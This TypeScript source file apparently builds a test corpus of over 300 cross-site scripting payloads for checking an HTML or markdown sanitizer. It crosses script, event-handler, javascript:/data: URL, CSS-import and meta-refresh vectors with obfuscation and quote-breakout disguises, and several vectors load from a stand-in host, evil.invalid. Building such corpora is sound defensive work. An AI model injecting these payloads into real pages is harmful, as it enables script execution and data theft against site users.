/** What runs when a payload gets through. */
const DEED = 'window.pwned=1';

/** Ways in which text becomes code in a page that lets it. */
const VECTORS: readonly string[] = [
  `<script>${DEED}</script>`,
  `<script src=https://evil.invalid/x.js></script>`,
  `<img src=x onerror=${DEED}>`,
  `<img src=https://evil.invalid/pixel.png>`,
  `<svg onload=${DEED}>`,
  `<svg><animate onbegin=${DEED} attributeName=x dur=1s>`,
  `<svg><a xlink:href="javascript:${DEED}"><text y=20>click</text></a></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id=x onload=${DEED}>#x"/></svg>`,
  `<math><maction actiontype=statusline xlink:href="javascript:${DEED}">click</maction></math>`,
  `<iframe src="javascript:parent.pwned=1"></iframe>`,
  `<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>`,
  `<object data="javascript:${DEED}"></object>`,
  `<embed src="data:text/html,<script>opener.pwned=1</script>">`,
  `<video><source onerror=${DEED}></video>`,
  `<audio src=x onerror=${DEED}></audio>`,
  `<input autofocus onfocus=${DEED}>`,
  `<details open ontoggle=${DEED}>x</details>`,
  `<body onload=${DEED}>`,
  `<form action="javascript:${DEED}"><button>go</button></form>`,
  `<button formaction="javascript:${DEED}" form=x>go</button>`,
  `<a href="javascript:${DEED}">click</a>`,
  `<link rel=stylesheet href=https://evil.invalid/x.css>`,
  `<style>@import "https://evil.invalid/x.css"; *{animation:x}</style>`,
  `<meta http-equiv=refresh content="0;url=https://evil.invalid/">`,
  `<base href=https://evil.invalid/>`,
  `<template><img src=x onerror=${DEED}></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${DEED}>">`,
  `[click](javascript:${DEED})`,
  `![image](https://evil.invalid/pixel.png "x")`,
  `<javascript:${DEED}>`,
  `[click](data:text/html;base64,PHNjcmlwdD5vcGVuZXIucHduZWQ9MTwvc2NyaXB0Pg==)`,
  `[click](vbscript:msgbox)`,
];

/** Where a payload would have to break out of, and how it would hide. */
const DISGUISES: readonly ((text: string) => string)[] = [
  (text) => text,
  (text) => text.replaceAll(/<(\/?)(\w+)/g, (_tag, slash: string, name: string) => `<${slash}${name.toUpperCase()}`),
  (text) => `">${text}`,
  (text) => `'>${text}`,
  (text) => `-->${text}`,
  (text) => `</textarea></title></style>${text}`,
  (text) => `*${text}*`,
  (text) => text.replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
  (text) => text.replaceAll('javascript:', 'java\tscript:').replaceAll(' on', '\non'),
  (text) => text.replaceAll('<', '<\u0000'),
  (text) => text.replaceAll('=', '\u200b='),
];

/** More than three hundred, each a line of its own words. None opens a fence: what follows must be read as the rest is. */
export const SCRIPT_PAYLOADS: readonly string[] = [...new Set(DISGUISES.flatMap((disguise) => VECTORS.map(disguise)))];
